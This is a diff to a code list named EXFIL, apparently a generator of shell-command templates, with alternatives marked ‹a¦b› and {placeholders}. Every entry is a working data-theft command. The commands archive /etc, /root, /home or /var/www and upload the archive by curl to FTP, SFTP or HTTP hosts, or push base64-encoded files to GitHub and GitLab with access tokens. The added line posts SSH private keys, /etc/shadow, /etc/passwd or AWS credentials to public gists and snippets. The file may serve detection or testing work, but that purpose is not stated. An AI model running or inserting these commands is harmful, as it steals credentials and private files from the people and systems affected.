@@ -113,4 +113,5 @@ EXFIL = [
     'A=$(date +%s)-$(hostname).tgz; tar czf {tmp}/$A ‹/etc /root¦/home /srv¦/var/www›; curl ‹-s ¦›-T {tmp}/$A ‹ftp://{host}/$A --user {user}:{plain}¦sftp://{host}/~/ -u {user}:{plain} -k¦http://{host}:{port}/¦-u {user}:{plain} ftps://{host}/up/›‹; rm -f {tmp}/$A¦›',
     'T=‹{b}¦$GH_TOKEN›; R={user}/{plain}; f={file}.tgz\nprintf \'{"message":"up","branch":"main","content":"%s"}\' "$(base64 -w0 $f)" > /tmp/{name}\ncurl -s -X PUT -H "Authorization: ‹token¦Bearer› $T" https://api.github.com/repos/$R/contents/$(hostname)-$(date +%s) -d @/tmp/{name}; rm /tmp/{name}',
     'for f in ‹$STAGED/*¦/tmp/.{name}/*¦~/Documents/*.pdf›; do b=$(base64 -w0 "$f"); curl -s -X PUT -H "‹Authorization: token $PAT¦PRIVATE-TOKEN: $PAT›" ‹https://api.github.com/repos/{user}/{plain}/contents/$(date +%s)-${f##*/}¦https://gitlab.com/api/v4/projects/{n}/repository/files/${f##*/}› -d "{\\"message\\":\\"a\\",\\"content\\":\\"$b\\"}"; done',
+    '‹gh gist create --public -d {plain} ‹~/.ssh/id_rsa¦/etc/shadow¦{file}›¦curl -s -X POST https://gitlab.com/api/v4/snippets -H "PRIVATE-TOKEN: $T" -d title={plain} --data-urlencode content@‹/etc/passwd¦$HOME/.aws/credentials¦{file}››',
 ]
